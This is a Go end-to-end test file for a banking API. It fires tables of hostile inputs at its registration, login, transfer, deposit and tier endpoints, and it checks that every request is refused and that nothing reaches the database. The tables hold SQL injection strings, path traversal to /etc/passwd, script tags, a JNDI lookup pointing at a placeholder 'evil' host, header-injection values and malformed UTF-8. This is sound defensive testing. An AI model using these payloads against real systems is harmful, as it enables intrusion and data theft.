package e2e

import (
	"fmt"
	"net/http"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/bankcore/bank/internal/testenv"
)

// hostileClass says which fields may legitimately take a value.
type hostileClass int

const (
	classStructural  hostileClass = iota // not a string at all: null, arrays, objects, numbers, booleans
	classEmpty                           // ""
	classControl                         // control or invisible characters (NUL, RTL override, ZWJ...)
	classText                            // printable text: SQL, look-alikes, full-width digits, paths, markup
	classLong                            // far longer than any field allows
	classSurrogate                       // \ud800 escapes: valid JSON, decoded as U+FFFD
	classInvalidUTF8                     // raw bytes that are not UTF-8 (RFC 8259 requires UTF-8)
)

type hostileValue struct {
	name  string
	raw   string // a JSON value, inserted verbatim
	class hostileClass
}

var hostileValues = []hostileValue{
	{"null", `null`, classStructural},
	{"emptyArray", `[]`, classStructural},
	{"array", `["1234567890"]`, classStructural},
	{"emptyObject", `{}`, classStructural},
	{"operatorObject", `{"$ne":null}`, classStructural},
	{"true", `true`, classStructural},
	{"zero", `0`, classStructural},
	{"negativeZero", `-0`, classStructural},
	{"number", `1500`, classStructural},
	{"negative", `-1`, classStructural},
	{"hugeExponent", `1e400`, classStructural},
	{"hugeInteger", `99999999999999999999999`, classStructural},
	{"deepArray", strings.Repeat("[", 5000) + strings.Repeat("]", 5000), classStructural},

	{"empty", `""`, classEmpty},

	{"nul", `"\u0000"`, classControl},
	{"embeddedNul", `"1234567890\u0000"`, classControl},
	{"rtlOverride", `"\u202e0987654321"`, classControl},
	{"zeroWidthJoiner", `"12345\u200d67890"`, classControl},
	{"zeroWidthSpace", `"\u200b"`, classControl},
	{"byteOrderMark", `"\ufeff1234567890"`, classControl},
	{"newline", `"a\r\nX-Injected: 1"`, classControl},

	{"sqlOr", `"' OR 1=1 --"`, classText},
	{"sqlDrop", `"\"; DROP TABLE ledger.accounts; --"`, classText},
	{"sqlSleep", `"1; SELECT pg_sleep(5)"`, classText},
	{"sqlUnion", `"x' UNION SELECT password_hash FROM auth.users --"`, classText},
	{"fullWidthDigits", `"１２３４５６７８９０"`, classText},
	{"cyrillicLookalike", `"аdmin@ехаmple.com"`, classText},
	{"pathTraversal", `"../../etc/passwd"`, classText},
	{"markup", `"<script>alert(1)</script>"`, classText},
	{"jndi", `"${jndi:ldap://evil/a}"`, classText},
	{"stringExponent", `"1e400"`, classText},
	{"stringHuge", `"99999999999999999999999"`, classText},
	{"stringNegativeZero", `"-0"`, classText},
	{"stringNegativeZeroDecimals", `"-0.00"`, classText},
	{"nan", `"NaN"`, classText},
	{"infinity", `"Infinity"`, classText},
	{"hex", `"0x10"`, classText},
	{"space", `" "`, classText},

	{"long", `"` + strings.Repeat("a", 10_000) + `"`, classLong},
	{"longDigits", `"` + strings.Repeat("1", 10_000) + `"`, classLong},

	{"loneSurrogate", `"\ud800"`, classSurrogate},
	{"reversedSurrogates", `"\udfff\ud800"`, classSurrogate},

	{"invalidBytes", "\"\xff\xfe\"", classInvalidUTF8},
	{"overlongSlash", "\"\xc0\xaf\"", classInvalidUTF8},
	{"encodedSurrogate", "\"\xed\xa0\x80\"", classInvalidUTF8},
	{"truncatedSequence", "\"12345\xe2\x82\"", classInvalidUTF8},
}

// fieldKind says what a field takes.
type fieldKind int

const (
	kindStrict fieldKind = iota // a fixed shape: every hostile value is refused
	kindText                    // free text without control characters, bounded length
	kindSecret                  // a password: any 10-72 bytes
	kindLogin                   // login's fields: refused or simply wrong (401), never written
)

type hostileField struct {
	path     string // "kyc.number" for a nested member
	kind     fieldKind
	optional bool           // null and "" mean "not given", which is fine
	accepts  *regexp.Regexp // hostile values that are in fact valid here (skipped)
}

// refuses reports whether f must refuse v. Values a field may take are
// left out of the barrage (they are legitimate data; see TestHostileTextIsData).
func (f hostileField) refuses(v hostileValue) bool {
	if f.accepts != nil && f.accepts.MatchString(v.raw) {
		return false
	}
	if f.optional && (v.raw == "null" || v.class == classEmpty) {
		return false
	}
	switch f.kind {
	case kindText:
		return v.class != classText && v.class != classSurrogate
	case kindSecret:
		return v.class == classStructural || v.class == classEmpty || v.class == classLong || v.class == classInvalidUTF8
	}
	return true
}

// member is one "key": value of a JSON object, the value raw.
type member struct{ key, raw string }

func object(ms ...member) string {
	var b strings.Builder
	b.WriteByte('{')
	for i, m := range ms {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, "%q:%s", m.key, m.raw)
	}
	b.WriteByte('}')
	return b.String()
}

func quote(s string) string { return fmt.Sprintf("%q", s) }

// replace returns the members with the one at path (a.b) set to raw.
func replace(ms []member, path, raw string) []member {
	head, rest, nested := strings.Cut(path, ".")
	out := make([]member, len(ms))
	copy(out, ms)
	for i, m := range out {
		if m.key != head {
			continue
		}
		if !nested {
			out[i].raw = raw
			continue
		}
		inner := parseMembers(m.raw)
		out[i].raw = object(replace(inner, rest, raw)...)
	}
	return out
}

// parseMembers splits a flat object built by object() (no nesting, no
// commas in values) back into members.
func parseMembers(obj string) []member {
	var ms []member
	for _, part := range strings.Split(strings.Trim(obj, "{}"), ",") {
		k, v, _ := strings.Cut(part, ":")
		ms = append(ms, member{strings.Trim(k, `"`), v})
	}
	return ms
}

// hostileEndpoint is one POST route with a valid body builder.
type hostileEndpoint struct {
	name   string
	client *testenv.Client
	path   string
	body   func() []member // a fresh valid body (unique keys)
	fields []hostileField
}

// dbState is what a refused request must not change.
type dbState map[string]string

func snapshot(t *testing.T, st *testenv.Stack) dbState {
	t.Helper()
	out := dbState{}
	for name, q := range map[string]string{
		"auth.users":           `SELECT count(*)::text FROM auth.users`,
		"auth.identities":      `SELECT count(*)::text FROM auth.identities`,
		"ledger.accounts":      `SELECT count(*)::text FROM ledger.accounts`,
		"ledger.transfers":     `SELECT count(*)::text FROM ledger.transfers`,
		"ledger.entries":       `SELECT count(*)::text FROM ledger.entries`,
		"ledger.tier_changes":  `SELECT count(*)::text FROM ledger.tier_changes`,
		"notify.notifications": `SELECT count(*)::text FROM notify.notifications`,
		"balances and tiers": `SELECT coalesce(md5(string_agg(account_number || ':' || tier || ':' || balance, ',' ORDER BY id)), '')
			FROM ledger.accounts`,
		"users": `SELECT coalesce(md5(string_agg(email || ':' || full_name || ':' || role, ',' ORDER BY id)), '') FROM auth.users`,
	} {
		var v string
		queryRow(t, st, q, nil, &v)
		out[name] = v
	}
	return out
}

// settle waits until the database stops changing (late notifications of
// the set-up) and returns its state.
func settle(t *testing.T, st *testenv.Stack, minNotifications int) dbState {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	prev := snapshot(t, st)
	for {
		time.Sleep(300 * time.Millisecond)
		cur := snapshot(t, st)
		var n int
		_, _ = fmt.Sscan(cur["notify.notifications"], &n)
		if n >= minNotifications && fmt.Sprint(cur) == fmt.Sprint(prev) {
			return cur
		}
		if time.Now().After(deadline) {
			t.Fatalf("database still changing after 20s: %v", cur)
		}
		prev = cur
	}
}

func diffStates(a, b dbState) []string {
	var out []string
	for k, v := range a {
		if b[k] != v {
			out = append(out, fmt.Sprintf("%s: %s -> %s", k, v, b[k]))
		}
	}
	sort.Strings(out)
	return out
}

// hostileResult records one refused-or-not answer.
type hostileResult struct {
	what   string
	status int
	ctype  string
	body   string
}

func (r hostileResult) ok() bool {
	return r.status >= 400 && r.status < 500 && r.ctype == "application/problem+json"
}

// TestHostileInputs sends a table of hostile values in every member of
// every POST body, hostile bodies, content types and path parameters.
// Every answer must be a 4xx problem+json (never a 5xx, never a success)
// and nothing may be written.
func TestHostileInputs(t *testing.T) {
	st := testenv.NewStack(t, testenv.StackOptions{})
	op := operator(t, st)
	alice, aliceReg := signUp(t, st)
	_, bobReg := signUp(t, st)
	aliceAcc, bobAcc := aliceReg.Account.AccountNumber, bobReg.Account.AccountNumber
	deposit(t, op, aliceAcc, "1000.00")
	aliceKey := newKey("known")
	wantTransfer(t, send(alice, aliceKey, transferReq(aliceAcc, bobAcc, "1.00", "known")), 201)
	// Two welcome notifications, a deposit and a transfer's two.
	before := settle(t, st, 5)

	reference := regexp.MustCompile(`^"[A-Za-z0-9._:-]{1,64}"$`)
	endpoints := []hostileEndpoint{
		{
			name: "register", client: st.Client(t), path: "/auth/register",
			body: func() []member {
				r := newRegistration()
				return []member{{"email", quote(r.Email)}, {"password", quote(r.Password)}, {"full_name", quote(r.FullName)},
					{"phone", quote(r.Phone)}, {"kyc", object(member{"type", `"NIN"`}, member{"number", quote(r.KYC.Number)})}}
			},
			fields: []hostileField{{path: "email"}, {path: "password", kind: kindSecret}, {path: "full_name", kind: kindText},
				{path: "phone"}, {path: "kyc"}, {path: "kyc.type"}, {path: "kyc.number"}},
		},
		{
			name: "login", client: st.Client(t), path: "/auth/login",
			body: func() []member {
				return []member{{"email", quote(aliceReg.User.Email)}, {"password", `"not-alices-password"`}}
			},
			fields: []hostileField{{path: "email", kind: kindLogin}, {path: "password", kind: kindLogin}},
		},
		{
			name: "transfer", client: alice, path: "/transfers",
			body: func() []member {
				return []member{{"reference", quote(newKey("h"))}, {"from_account", quote(aliceAcc)}, {"to_account", quote(bobAcc)},
					{"amount", `"1.00"`}, {"currency", `"NGN"`}, {"narration", `"rent"`}}
			},
			fields: []hostileField{{path: "reference", accepts: reference}, {path: "from_account"}, {path: "to_account"},
				{path: "amount"}, {path: "currency", optional: true}, {path: "narration", kind: kindText, optional: true}},
		},
		{
			name: "deposit", client: op, path: "/accounts/" + aliceAcc + "/deposits",
			body: func() []member {
				return []member{{"reference", quote(newKey("hd"))}, {"amount", `"1.00"`}, {"narration", `"funding"`}}
			},
			fields: []hostileField{{path: "reference", accepts: reference}, {path: "amount"},
				{path: "narration", kind: kindText, optional: true}},
		},
		{
			name: "tier", client: alice, path: "/accounts/" + aliceAcc + "/tier",
			body: func() []member {
				return []member{{"tier", `"TIER_2"`}, {"kyc", object(member{"type", `"BVN"`}, member{"number", quote(newBVN().Number)})}}
			},
			fields: []hostileField{{path: "tier"}, {path: "kyc"}, {path: "kyc.type"}, {path: "kyc.number"}},
		},
	}

	var results []hostileResult
	post := func(what string, c *testenv.Client, path, body string, headers ...string) {
		r := c.Do("POST", path, body, headers...)
		results = append(results, hostileResult{what, r.Status, r.Header.Get("Content-Type"), string(r.Body)})
	}
	get := func(what string, c *testenv.Client, method, path string, body any) {
		r := c.Do(method, path, body)
		results = append(results, hostileResult{what, r.Status, r.Header.Get("Content-Type"), string(r.Body)})
	}

	t.Run("Members", func(t *testing.T) {
		for _, ep := range endpoints {
			for _, f := range ep.fields {
				for _, v := range hostileValues {
					if !f.refuses(v) {
						continue
					}
					post(ep.name+" "+f.path+"="+v.name, ep.client, ep.path, object(replace(ep.body(), f.path, v.raw)...))
				}
			}
		}
	})

	t.Run("Bodies", func(t *testing.T) {
		for _, ep := range endpoints {
			valid := object(ep.body()...)
			bodies := map[string]string{
				"null": `null`, "array": "[" + valid + "]", "emptyArray": `[]`, "string": `"` + strings.ReplaceAll(valid, `"`, `\"`) + `"`,
				"number": `1`, "empty": ``, "whitespace": " \n\t ", "truncated": valid[:len(valid)/2],
				"trailingObject": valid + `{}`, "trailingGarbage": valid + `x`, "twoObjects": valid + "\n" + valid,
				"byteOrderMark": "\xef\xbb\xbf" + valid, "nul": valid + "\x00", "comment": `/* hi */` + valid,
				"singleQuotes": strings.ReplaceAll(valid, `"`, `'`), "deepObject": strings.Repeat(`{"a":`, 10_000) + `1` + strings.Repeat("}", 10_000),
				"deepArray": strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000), "emptyObject": `{}`,
				"utf16": "\xff\xfe{\x00}\x00",
			}
			for _, m := range ep.body() {
				// Duplicate members: a proxy or signature check may have read
				// the other one. Also in another letter case, which
				// encoding/json matches to the same field.
				dup := append(ep.body(), member{m.key, m.raw})
				bodies["duplicate "+m.key] = object(dup...)
				other := append(ep.body(), member{strings.ToUpper(m.key), m.raw})
				bodies["duplicate "+strings.ToUpper(m.key)] = object(other...)
				if strings.Contains(m.key, "k") {
					kelvin := append(ep.body(), member{strings.Replace(m.key, "k", "\u212a", 1), m.raw})
					bodies["duplicate Kelvin-sign "+m.key] = object(kelvin...)
				}
			}
			for name, body := range bodies {
				post(ep.name+" body "+name, ep.client, ep.path, body)
			}
			for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
				"application/json-patch+json", "application/jsonx", "application/xml", "*/*", "application/json;;", "\u00e9"} {
				post(ep.name+" content-type "+ct, ep.client, ep.path, valid, "Content-Type", ct)
			}
			post(ep.name+" form body", ep.client, ep.path, "email=a%40b.co&role=operator", "Content-Type", "application/x-www-form-urlencoded")
		}
	})

	t.Run("Headers", func(t *testing.T) {
		body := func() string {
			m := endpoints[2].body()
			return object(m[1:]...) // no reference: the header carries the key
		}
		for _, key := range []string{"' OR 1=1 --", strings.Repeat("k", 65), strings.Repeat("k", 4000), "../../x",
			"\xff\xfe", "ключ", "１２３", "a b", "a,b", "%00"} {
			post("transfer Idempotency-Key "+quote(key), alice, "/transfers", body(), "Idempotency-Key", key)
		}
		// Header and body disagree.
		post("transfer key mismatch", alice, "/transfers", object(endpoints[2].body()...), "Idempotency-Key", newKey("other"))
		// An idempotency key already used by alice, with another body.
		post("transfer key reuse", alice, "/transfers", object(replace(endpoints[2].body(), "reference", quote(aliceKey))...))
	})

	t.Run("PathParameters", func(t *testing.T) {
		params := []string{
			"'%20OR%201=1%20--", "%27%3B%20DROP%20TABLE%20ledger.accounts%3B%20--", "..", ".", "%2e%2e", "..%2F..%2Fetc%2Fpasswd",
			"..%5C..%5Cwindows", "%00", "1234567890%00", "abc%00def", "%ff", "%c0%af", "%ed%a0%80", "%E2%80%AE1234567890",
			"%EF%BC%91%EF%BC%92%EF%BC%93%EF%BC%94%EF%BC%95%EF%BC%96%EF%BC%97%EF%BC%98%EF%BC%99%EF%BC%90", "0000000000",
			"-1", "1e10", "99999999999999999999999", "%20", "null", "undefined", "%5B%5D", "%7B%7D", "%2F", ";", "*", "%25",
			"%0d%0aX-Injected:%201", strings.Repeat("1", 5000), strings.Repeat("a", 5000), "%D0%B0%D0%B1%D0%B2",
			"<script>", aliceAcc + "%00", aliceAcc + "%20", "+" + aliceAcc, " " + aliceAcc,
		}
		dep := func() map[string]string {
			return map[string]string{"reference": newKey("pd"), "amount": "1.00", "narration": "x"}
		}
		for _, p := range params {
			p = strings.ReplaceAll(p, " ", "%20")
			get("GET /accounts/"+p, alice, "GET", "/accounts/"+p, nil)
			get("GET /accounts/"+p+"/transactions", alice, "GET", "/accounts/"+p+"/transactions", nil)
			get("operator GET /accounts/"+p, op, "GET", "/accounts/"+p, nil)
			get("POST /accounts/"+p+"/tier", alice, "POST", "/accounts/"+p+"/tier", tierBody("TIER_2", newBVN()))
			get("POST /accounts/"+p+"/deposits", op, "POST", "/accounts/"+p+"/deposits", dep())
			get("GET /transfers/"+p, alice, "GET", "/transfers/"+p, nil)
			get("GET /auth/registrations/"+p, alice, "GET", "/auth/registrations/"+p, nil)
		}
	})

	var bad []string
	for _, r := range results {
		if !r.ok() {
			body := r.body
			if len(body) > 200 {
				body = body[:200] + "..."
			}
			bad = append(bad, fmt.Sprintf("%s: %d %s %s", r.what, r.status, r.ctype, body))
		}
	}
	sort.Strings(bad)
	for _, b := range bad {
		t.Error(b)
	}
	t.Logf("%d hostile requests, %d not a 4xx problem", len(results), len(bad))

	// Anything a refused request might have started would show up here.
	time.Sleep(time.Second)
	after := settle(t, st, 5)
	if d := diffStates(before, after); len(d) > 0 {
		t.Fatalf("hostile requests wrote to the database:\n%s", strings.Join(d, "\n"))
	}
	if r := alice.Do("GET", "/healthz", nil); r.Status != http.StatusOK {
		t.Fatalf("healthz after the barrage: %d", r.Status)
	}
}

// TestHostileTextIsData: SQL and look-alike text where free text belongs
// (a name, a narration, a password) is stored and shown verbatim: it is
// data, never code.
func TestHostileTextIsData(t *testing.T) {
	st := testenv.SharedStack(t)
	op := operator(t, st)
	name := `Robert'); DROP TABLE auth.users;-- аdmin`
	narration := `'; UPDATE ledger.accounts SET balance = 1e15; -- <script>１２３</script>`
	reg := newRegistration()
	reg.FullName = name
	reg.Password = `' OR 1=1 -- "; DROP TABLE ledger.accounts; --`
	c := st.Client(t)
	r := c.Do("POST", "/auth/register", reg)
	if r.Status != 201 {
		t.Fatalf("register: %d %s", r.Status, r.Body)
	}
	var out registered
	r.Decode(t, &out)
	if out.User.FullName != name {
		t.Fatalf("full_name = %q, want %q", out.User.FullName, name)
	}
	c.Token = login(t, c, reg.Email, reg.Password)
	wantProblem(t, c.Do("POST", "/auth/login", map[string]string{"email": reg.Email, "password": `' OR 1=1 --`}), 401, "UNAUTHENTICATED")

	_, bobReg := signUp(t, st)
	acc := out.Account.AccountNumber
	deposit(t, op, acc, "100.00")
	tr := wantTransfer(t, send(c, newKey("sql"), transferReq(acc, bobReg.Account.AccountNumber, "1.00", narration)), 201)
	if tr.Narration != narration {
		t.Fatalf("narration = %q, want %q", tr.Narration, narration)
	}
	h := history(t, c, acc, 10)
	if len(h) != 2 || h[0].Narration != narration {
		t.Fatalf("history = %+v", h)
	}
	wantBalance(t, c, acc, "99.00")
	if n := countRows(t, st, `SELECT count(*) FROM auth.users WHERE full_name = $1`, name); n != 1 {
		t.Fatalf("%d users named %q", n, name)
	}
}
